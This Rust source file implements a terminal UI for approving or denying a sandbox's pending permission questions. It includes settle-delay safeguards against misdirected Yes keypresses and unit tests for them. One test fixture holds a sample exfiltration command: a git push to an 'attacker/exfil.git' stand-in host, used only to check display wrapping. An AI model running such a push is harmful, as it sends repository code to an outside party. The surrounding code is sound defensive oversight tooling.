//! The `fence approvals` terminal UI: the running sessions, one card per pending
//! question with a live countdown, and the keys to answer.

use std::collections::{BTreeMap, VecDeque};
use std::path::PathBuf;
use std::time::{Duration, Instant};

use ratatui::Frame;
use ratatui::crossterm::event::{self, Event, KeyCode, KeyEventKind, KeyModifiers};
use ratatui::layout::{Constraint, Layout, Rect};
use ratatui::style::{Color, Modifier, Style};
use ratatui::text::{Line, Span};
use ratatui::widgets::{Block, Borders, Paragraph, Wrap};

use super::{RESCAN, Update, Watcher, event_word, level_word, time_left, transcript};
use crate::escape;
use crate::gate::Level;
use crate::gate::Question;
use crate::gate::client::LinkWriter;
use crate::gate::protocol::{AnswerWord, ServerHello, ServerMessage};

/// How often the screen is redrawn when nothing happens (the countdowns move).
const TICK: Duration = Duration::from_millis(250);
/// Transcript lines kept on screen.
const LOG_LINES: usize = 6;
/// How long a card put under the cursor by anything but the person's own keys (the one
/// selected was answered elsewhere or timed out, a first card came) waits before a key
/// answers it: the sandbox knows every deadline, and would time a dangerous question to
/// slide under a Yes meant for a harmless one.
const SETTLE: Duration = Duration::from_millis(800);

struct Session {
    hello: ServerHello,
    writer: LinkWriter,
}

struct Card {
    socket: PathBuf,
    question: Question,
    /// When it came on screen: no key answers it before [`SETTLE`] has passed.
    shown: Instant,
}

fn card_key(c: &Card) -> (PathBuf, u64) {
    (c.socket.clone(), c.question.id)
}

enum Mode {
    Normal,
    /// Typing the reason of a No to a card (by session and question; none when there was
    /// none to answer: what is typed is then taken as a reason all the same, never as keys).
    Reason(String, Option<(PathBuf, u64)>),
}

struct App {
    sessions: BTreeMap<PathBuf, Session>,
    cards: Vec<Card>,
    selected: usize,
    /// The card under the cursor, by session and question (an index moves when a card
    /// before it goes), and from when a key may answer it.
    under_cursor: Option<(PathBuf, u64)>,
    answerable_from: Instant,
    /// The cards as last seen, by session and question.
    list_seen: Vec<(PathBuf, u64)>,
    mode: Mode,
    log: VecDeque<String>,
    quit: bool,
}

pub fn run() -> Result<(), String> {
    let mut watcher = Watcher::new("fence approvals");
    watcher.rescan()?;
    let mut terminal = ratatui::init();
    let result = event_loop(&mut terminal, &mut watcher);
    ratatui::restore();
    result
}

fn event_loop(
    terminal: &mut ratatui::DefaultTerminal,
    watcher: &mut Watcher,
) -> Result<(), String> {
    let mut app = App::new();
    let mut next_scan = Instant::now() + RESCAN;
    while !app.quit {
        while let Ok(update) = watcher.rx.try_recv() {
            app.update(update);
        }
        app.follow();
        if Instant::now() >= next_scan {
            if let Err(e) = watcher.rescan() {
                app.note(e);
            }
            next_scan = Instant::now() + RESCAN;
        }
        terminal
            .draw(|f| app.draw(f))
            .map_err(|e| format!("drawing: {e}"))?;
        if event::poll(TICK).map_err(|e| format!("reading the terminal: {e}"))?
            && let Event::Key(key) =
                event::read().map_err(|e| format!("reading the terminal: {e}"))?
            && key.kind == KeyEventKind::Press
        {
            if key.modifiers.contains(KeyModifiers::CONTROL) && key.code == KeyCode::Char('c') {
                app.quit = true;
            } else {
                app.key(key.code);
            }
        }
    }
    Ok(())
}

impl App {
    fn new() -> App {
        App {
            sessions: BTreeMap::new(),
            cards: Vec::new(),
            selected: 0,
            under_cursor: None,
            answerable_from: Instant::now(),
            list_seen: Vec::new(),
            mode: Mode::Normal,
            log: VecDeque::new(),
            quit: false,
        }
    }

    fn note(&mut self, line: String) {
        self.log.push_back(line);
        while self.log.len() > LOG_LINES {
            self.log.pop_front();
        }
    }

    fn session_name(&self, socket: &PathBuf) -> String {
        self.sessions
            .get(socket)
            .map(|s| s.hello.session.clone())
            .unwrap_or_else(|| socket.display().to_string())
    }

    fn update(&mut self, update: Update) {
        match update {
            Update::Connected {
                socket,
                hello,
                writer,
            } => {
                self.sessions.insert(socket, Session { hello, writer });
            }
            Update::Message { socket, message } => match message {
                ServerMessage::Question(question) => {
                    let known = self
                        .cards
                        .iter()
                        .any(|c| c.socket == socket && c.question.id == question.id);
                    if !known {
                        self.cards.push(Card {
                            socket,
                            question,
                            shown: Instant::now(),
                        });
                    }
                }
                ServerMessage::Resolved {
                    id,
                    answer,
                    by,
                    reason,
                } => {
                    if let Some(i) = self
                        .cards
                        .iter()
                        .position(|c| c.socket == socket && c.question.id == id)
                    {
                        let card = self.cards.remove(i);
                        let line = transcript(
                            &escape::if_unsafe(&card.question.subject),
                            &answer,
                            &escape::if_unsafe(&by),
                            reason.as_deref().map(escape::if_unsafe).as_deref(),
                        );
                        self.note(line);
                        self.clamp();
                    }
                }
                ServerMessage::Error { message, .. } => {
                    let name = self.session_name(&socket);
                    self.note(format!("session {name}: {}", escape::if_unsafe(&message)));
                }
                _ => {}
            },
            Update::Closed { socket, why } => {
                let name = self.session_name(&socket);
                self.sessions.remove(&socket);
                self.cards.retain(|c| c.socket != socket);
                self.clamp();
                match why {
                    Some(why) => self.note(format!("session {name}: {}", escape::if_unsafe(&why))),
                    None => self.note(format!("session {name} ended")),
                }
            }
            Update::Stdin(_) => {}
        }
    }

    fn clamp(&mut self) {
        if self.selected >= self.cards.len() {
            self.selected = self.cards.len().saturating_sub(1);
        }
    }

    /// Keeps the cursor on its card as cards come and go. When its card has gone, the card
    /// now at its place is under it, answerable only after [`SETTLE`] (and so is a first
    /// card): a key pressed for the card that went never answers another. Any change of
    /// the list holds every answer for [`SETTLE`] too: a key pressed to move the cursor may
    /// be meant for the list before.
    fn follow(&mut self) {
        let list: Vec<(PathBuf, u64)> = self.cards.iter().map(card_key).collect();
        if list != self.list_seen {
            self.list_seen = list;
            self.answerable_from = self.answerable_from.max(Instant::now() + SETTLE);
        }
        let at =
            |c: &Card, (socket, id): &(PathBuf, u64)| c.socket == *socket && c.question.id == *id;
        if let Some(key) = &self.under_cursor
            && let Some(i) = self.cards.iter().position(|c| at(c, key))
        {
            self.selected = i;
            return;
        }
        self.clamp();
        let now = self.cards.get(self.selected).map(card_key);
        if now.is_some() && now != self.under_cursor {
            self.answerable_from = Instant::now() + SETTLE;
        }
        self.under_cursor = now;
    }

    /// The person moved the cursor. The card they chose waits as any other: a key meant
    /// for a list the sandbox has just changed (a card withdrawn as the key was pressed)
    /// lands on a card they did not choose.
    fn chose(&mut self) {
        self.clamp();
        self.under_cursor = self.cards.get(self.selected).map(card_key);
    }

    fn key(&mut self, code: KeyCode) {
        match &mut self.mode {
            Mode::Reason(text, card) => match code {
                KeyCode::Esc => self.mode = Mode::Normal,
                KeyCode::Enter => {
                    let reason = std::mem::take(text);
                    let card = card.clone();
                    self.mode = Mode::Normal;
                    let reason = (!reason.trim().is_empty()).then_some(reason);
                    match card {
                        Some(card) => self.send(&card, AnswerWord::No, reason),
                        None => self.note("No question was selected: nothing was sent".into()),
                    }
                }
                KeyCode::Backspace => {
                    text.pop();
                }
                KeyCode::Char(c) if !c.is_control() && text.len() < 1000 => text.push(c),
                _ => {}
            },
            Mode::Normal => match code {
                KeyCode::Char('q') | KeyCode::Esc => self.quit = true,
                KeyCode::Up | KeyCode::Char('k') => {
                    self.selected = self.selected.saturating_sub(1);
                    self.chose();
                }
                KeyCode::Down | KeyCode::Char('j') => {
                    self.selected += 1;
                    self.chose();
                }
                KeyCode::Char('y') => self.answer(AnswerWord::Yes, None),
                KeyCode::Char('a') => {
                    if self.selected_card().is_some_and(offers_always) {
                        self.answer(AnswerWord::Always, None);
                    } else if self.selected_card().is_some() {
                        self.note(
                            "Always is not offered for this question (red, or not asked)".into(),
                        );
                    }
                }
                // A No never widens anything: it is taken at once (and what is typed next
                // is its reason, never keys that could answer Yes).
                KeyCode::Char('n') => {
                    self.mode = Mode::Reason(String::new(), self.selected_card().map(card_key))
                }
                _ => {}
            },
        }
    }

    fn selected_card(&self) -> Option<&Card> {
        self.cards.get(self.selected)
    }

    /// Whether the card under the cursor may be answered by a key now; says why not.
    fn settled(&mut self) -> bool {
        let now = Instant::now();
        if now >= self.answerable_from
            && self
                .selected_card()
                .is_some_and(|c| now >= c.shown + SETTLE)
        {
            return true;
        }
        if let Some(card) = self.selected_card() {
            let line = format!(
                "#{} has just come under the cursor or on screen: look, then press again",
                card.question.id
            );
            self.note(line);
        }
        false
    }

    /// Sends the answer to the selected card's session; the card goes when the session
    /// says the question is resolved (by this answer or by another client's).
    fn answer(&mut self, answer: AnswerWord, reason: Option<String>) {
        if !self.settled() {
            return;
        }
        if let Some(card) = self.selected_card().map(card_key) {
            self.send(&card, answer, reason);
        }
    }

    /// Sends `answer` to one card's session (a card gone meanwhile gets none).
    fn send(&mut self, card: &(PathBuf, u64), answer: AnswerWord, reason: Option<String>) {
        if !self.cards.iter().any(|c| card_key(c) == *card) {
            return;
        }
        let (socket, id) = card.clone();
        let sent = match self.sessions.get_mut(&socket) {
            Some(session) => session
                .writer
                .answer(id, answer, reason)
                .map_err(|e| e.to_string()),
            None => Err("not connected".into()),
        };
        if let Err(e) = sent {
            let name = self.session_name(&socket);
            self.note(format!("session {name}: cannot send the answer: {e}"));
        }
    }

    fn draw(&self, frame: &mut Frame) {
        // The cards come first: the other panes get a quarter of the screen at most.
        let room = frame.area().height.saturating_sub(2) / 4;
        let session_rows = (self.sessions.len().max(1) as u16 + 2)
            .min(8)
            .min(room.max(3));
        let log_rows = (LOG_LINES as u16 + 2).min(room.max(3));
        let [title, sessions, cards, log, keys] = Layout::vertical([
            Constraint::Length(1),
            Constraint::Length(session_rows),
            Constraint::Min(5),
            Constraint::Length(log_rows),
            Constraint::Length(1),
        ])
        .areas(frame.area());

        frame.render_widget(
            Paragraph::new(Line::from(vec![
                Span::styled("fence approvals", Style::new().add_modifier(Modifier::BOLD)),
                Span::raw(format!(
                    "  {} session(s), {} question(s) pending",
                    self.sessions.len(),
                    self.cards.len()
                )),
            ])),
            title,
        );

        let session_lines: Vec<Line> = if self.sessions.is_empty() {
            vec![Line::raw("no fence sessions are running; waiting for one")]
        } else {
            self.sessions
                .values()
                .map(|s| {
                    let h = &s.hello;
                    Line::raw(format!(
                        "{}  pid {}  {}  {}",
                        h.session,
                        h.fence_pid,
                        h.worktree,
                        h.command.join(" ")
                    ))
                })
                .collect()
        };
        frame.render_widget(
            Paragraph::new(session_lines)
                .block(Block::default().borders(Borders::ALL).title(" sessions ")),
            sessions,
        );

        self.draw_cards(frame, cards);

        let log_lines: Vec<Line> = self.log.iter().map(|l| Line::raw(l.as_str())).collect();
        frame.render_widget(
            Paragraph::new(log_lines)
                .wrap(Wrap { trim: false })
                .block(Block::default().borders(Borders::ALL).title(" transcript ")),
            log,
        );

        let footer = match &self.mode {
            Mode::Reason(text, _) => Line::from(vec![
                Span::styled("No, reason: ", Style::new().add_modifier(Modifier::BOLD)),
                Span::raw(format!("{text}_")),
                Span::raw("   Enter sends the No · Esc cancels"),
            ]),
            Mode::Normal => {
                let mut keys = String::from("y yes  ");
                if self.selected_card().is_some_and(offers_always) {
                    keys.push_str("a always  ");
                }
                keys.push_str("n no (with a reason)  ↑↓/j/k select  q quit");
                Line::raw(keys)
            }
        };
        frame.render_widget(Paragraph::new(footer), keys);
    }

    fn draw_cards(&self, frame: &mut Frame, area: Rect) {
        if self.cards.is_empty() {
            frame.render_widget(
                Paragraph::new("no question is pending")
                    .block(Block::default().borders(Borders::ALL).title(" questions ")),
                area,
            );
            return;
        }
        let inner_width = area.width.saturating_sub(2).max(1) as usize;
        let heights: Vec<u16> = self
            .cards
            .iter()
            .map(|c| card_height(c, inner_width))
            .collect();
        // Scroll so that the selected card is on screen.
        let mut first = 0;
        while first < self.selected
            && heights[first..=self.selected]
                .iter()
                .map(|&h| h as u32)
                .sum::<u32>()
                > area.height as u32
        {
            first += 1;
        }
        let mut y = area.y;
        for (i, card) in self.cards.iter().enumerate().skip(first) {
            let h = heights[i].min(area.y + area.height - y);
            if h < 3 {
                break;
            }
            let rect = Rect::new(area.x, y, area.width, h);
            self.draw_card(frame, card, i == self.selected, rect);
            y += h;
            if y >= area.y + area.height {
                break;
            }
        }
    }

    fn draw_card(&self, frame: &mut Frame, card: &Card, selected: bool, rect: Rect) {
        let q = &card.question;
        let level_style = match q.level {
            Level::Red => Style::new().fg(Color::Red).add_modifier(Modifier::BOLD),
            Level::Yellow => Style::new().fg(Color::Yellow).add_modifier(Modifier::BOLD),
        };
        let border = if selected {
            Style::new().add_modifier(Modifier::BOLD).fg(Color::Cyan)
        } else {
            Style::new()
        };
        // What must stay visible on a small screen comes first: the title (level, rule,
        // countdown), then the process; the subject wraps last and is shown whole when
        // the card has the room.
        let title = Line::from(vec![
            Span::raw(if selected { " ▶ " } else { " " }),
            Span::styled(level_word(q.level), level_style),
            Span::raw(format!(
                " {} · time left: {} · #{} · session {} ",
                escape::if_unsafe(&q.rule),
                time_left(q.deadline_ms),
                q.id,
                self.session_name(&card.socket)
            )),
        ]);
        frame.render_widget(
            Paragraph::new(card_lines(card))
                .wrap(Wrap { trim: false })
                .block(
                    Block::default()
                        .borders(Borders::ALL)
                        .border_style(border)
                        .title(title),
                ),
            rect,
        );
    }
}

fn offers_always(card: &Card) -> bool {
    card.question.always_offered && card.question.level == Level::Yellow
}

/// The lines of a card inside its border: what is asked, by which process, about what.
fn card_lines(card: &Card) -> Vec<Line<'static>> {
    let q = &card.question;
    let mut lines = vec![
        Line::raw(escape::if_unsafe(&q.description)),
        Line::raw(format!(
            "process: {} (pid {})",
            escape::if_unsafe(&q.process),
            q.pid
        )),
        Line::from(vec![
            Span::styled(
                format!("{}: ", event_word(q)),
                Style::new().add_modifier(Modifier::BOLD),
            ),
            Span::raw(escape::if_unsafe(&q.subject)),
        ]),
    ];
    if let Some(d) = &q.destination {
        lines.push(Line::raw(format!(
            "destination: {}",
            escape::if_unsafe(&d.shown())
        )));
    }
    lines
}

/// Rows a card needs at `width` columns inside its border (the subject is shown whole): as
/// the paragraph wraps them, by display width (a double-width character takes two columns,
/// and a word that does not fit moves to the next row).
fn card_height(card: &Card, width: usize) -> u16 {
    let width = u16::try_from(width).unwrap_or(u16::MAX).max(1);
    let rows = Paragraph::new(card_lines(card))
        .wrap(Wrap { trim: false })
        .line_count(width);
    u16::try_from(rows + 2).unwrap_or(u16::MAX)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gate::EventKind;

    fn question(id: u64, subject: &str) -> Question {
        Question {
            id,
            session: "s".into(),
            level: Level::Red,
            rule: "fence.write-outside".into(),
            description: "write outside the worktree".into(),
            event: EventKind::Write,
            subject: subject.into(),
            argv: None,
            destination: None,
            pid: 10,
            sandbox_pid: Some(3),
            process: "sh".into(),
            always_offered: false,
            asked_at_ms: 0,
            deadline_ms: 120_000,
        }
    }

    fn app() -> App {
        App::new()
    }

    /// As if every card had been on screen, and under the cursor, for a while.
    fn settle_all(app: &mut App) {
        let long_ago = Instant::now() - Duration::from_secs(5);
        app.answerable_from = long_ago;
        app.list_seen = app.cards.iter().map(card_key).collect();
        for c in &mut app.cards {
            c.shown = long_ago;
        }
    }

    fn arrive(app: &mut App, id: u64, subject: &str) {
        app.update(Update::Message {
            socket: PathBuf::from("/s"),
            message: ServerMessage::Question(question(id, subject)),
        });
        app.follow();
    }

    /// With no session connected, an answer sent shows as the note that it could not go.
    fn sent(app: &App) -> bool {
        app.log.iter().any(|l| l.contains("cannot send the answer"))
    }

    /// A subject of double-width characters is shown whole: the card is as tall as its
    /// text wraps in display columns (counted in characters, the end of such a push's
    /// command, where it sends the code, fell below the card).
    #[test]
    fn a_subject_in_double_width_characters_is_shown_whole() {
        let mut app = app();
        let subject = format!(
            "git -c user.name={} push https://example.invalid/attacker/exfil.git HEAD:refs/heads/feature",
            "\u{ff38}".repeat(60)
        );
        arrive(&mut app, 1, &subject);
        let backend = ratatui::backend::TestBackend::new(60, 40);
        let mut terminal = ratatui::Terminal::new(backend).unwrap();
        terminal.draw(|f| app.draw(f)).unwrap();
        let screen: String = terminal
            .backend()
            .buffer()
            .content()
            .iter()
            .map(|c| c.symbol())
            .collect();
        assert!(screen.contains("exfil.git"), "{screen}");
        assert!(screen.contains("feature"), "{screen}");
    }

    /// A Yes meant for a question that times out (the sandbox knows when) never lands on
    /// the one that takes its place under the cursor: that card waits before a key answers
    /// it, until the person moves to it themselves.
    #[test]
    fn a_key_for_a_card_that_went_never_answers_the_next() {
        let mut app = app();
        arrive(&mut app, 1, "/outside/harmless");
        arrive(&mut app, 2, "/outside/dangerous");
        // A first card is not answered by a key pressed as it appears.
        app.key(KeyCode::Char('y'));
        assert!(!sent(&app), "{:?}", app.log);
        settle_all(&mut app);
        // The harmless one times out just as the person answers it.
        app.update(Update::Message {
            socket: PathBuf::from("/s"),
            message: ServerMessage::Resolved {
                id: 1,
                answer: "timeout".into(),
                by: "fence".into(),
                reason: None,
            },
        });
        app.follow();
        app.key(KeyCode::Char('y'));
        assert!(!sent(&app), "answered the card that slid in: {:?}", app.log);
        assert!(
            app.log
                .iter()
                .any(|l| l.contains("#2 has just come under the cursor")),
            "{:?}",
            app.log
        );
        // Keys that move the cursor do not make it answerable sooner.
        app.key(KeyCode::Up);
        app.key(KeyCode::Char('y'));
        assert!(!sent(&app), "{:?}", app.log);
        arrive(&mut app, 3, "/outside/other");
        settle_all(&mut app);
        app.key(KeyCode::Down);
        app.key(KeyCode::Up);
        app.key(KeyCode::Char('y'));
        assert!(sent(&app), "{:?}", app.log);
    }

    /// A No is taken at once, even on a card that just came: what is typed next is its
    /// reason, never keys that answer (a `y` in the reason approved the question).
    #[test]
    fn a_no_is_taken_at_once_and_its_reason_answers_nothing() {
        let mut app = app();
        arrive(&mut app, 1, "/outside/a");
        app.key(KeyCode::Char('n'));
        for c in "yay".chars() {
            app.key(KeyCode::Char(c));
        }
        assert!(matches!(&app.mode, Mode::Reason(text, _) if text == "yay"));
        assert!(!sent(&app), "{:?}", app.log);
        app.key(KeyCode::Enter);
        assert!(sent(&app), "the No was not sent: {:?}", app.log);
    }

    /// An `n` with no card to answer (the one meant timed out as the key came) still takes
    /// what is typed next as a reason: a `y` in it answers the card that comes next.
    #[test]
    fn a_no_with_no_card_keeps_its_reason_from_the_next_card() {
        let mut app = app();
        app.key(KeyCode::Char('n'));
        arrive(&mut app, 1, "/outside/a");
        settle_all(&mut app);
        for c in "yes".chars() {
            app.key(KeyCode::Char(c));
        }
        app.key(KeyCode::Enter);
        assert!(!sent(&app), "{:?}", app.log);
        assert!(
            app.log.iter().any(|l| l.contains("nothing was sent")),
            "{:?}",
            app.log
        );
    }

    /// A card withdrawn just as the person moves the cursor: the move lands on another
    /// card, which waits before a Yes.
    #[test]
    fn a_list_changed_under_a_key_holds_the_answers() {
        let mut app = app();
        for id in 1..=3 {
            arrive(&mut app, id, "/outside/x");
        }
        settle_all(&mut app);
        app.update(Update::Message {
            socket: PathBuf::from("/s"),
            message: ServerMessage::Resolved {
                id: 2,
                answer: "timeout".into(),
                by: "fence".into(),
                reason: None,
            },
        });
        app.follow();
        app.key(KeyCode::Down);
        assert_eq!(app.selected_card().unwrap().question.id, 3);
        app.key(KeyCode::Char('y'));
        assert!(!sent(&app), "{:?}", app.log);
    }

    /// A card that came just before the key that moved the cursor onto it was never seen:
    /// it waits too.
    #[test]
    fn a_card_just_arrived_is_not_answered_by_a_quick_move_and_yes() {
        let mut app = app();
        arrive(&mut app, 1, "/outside/a");
        settle_all(&mut app);
        arrive(&mut app, 2, "/outside/new");
        app.key(KeyCode::Down);
        app.key(KeyCode::Char('y'));
        assert!(!sent(&app), "{:?}", app.log);
        settle_all(&mut app);
        app.key(KeyCode::Char('y'));
        assert!(sent(&app), "{:?}", app.log);
    }

    /// The cursor stays on its card when another before it goes.
    #[test]
    fn the_cursor_follows_its_card() {
        let mut app = app();
        for id in 1..=3 {
            arrive(&mut app, id, "/outside/x");
        }
        app.key(KeyCode::Down);
        app.key(KeyCode::Down);
        settle_all(&mut app);
        assert_eq!(app.selected_card().unwrap().question.id, 3);
        app.update(Update::Closed {
            socket: PathBuf::from("/other"),
            why: None,
        });
        app.update(Update::Message {
            socket: PathBuf::from("/s"),
            message: ServerMessage::Resolved {
                id: 1,
                answer: "no".into(),
                by: "x".into(),
                reason: None,
            },
        });
        app.follow();
        assert_eq!(app.selected_card().unwrap().question.id, 3);
        // The list changed: answers wait, then go to the card the cursor stayed on.
        app.key(KeyCode::Char('y'));
        assert!(!sent(&app), "{:?}", app.log);
        settle_all(&mut app);
        app.key(KeyCode::Char('y'));
        assert!(sent(&app), "{:?}", app.log);
    }
}
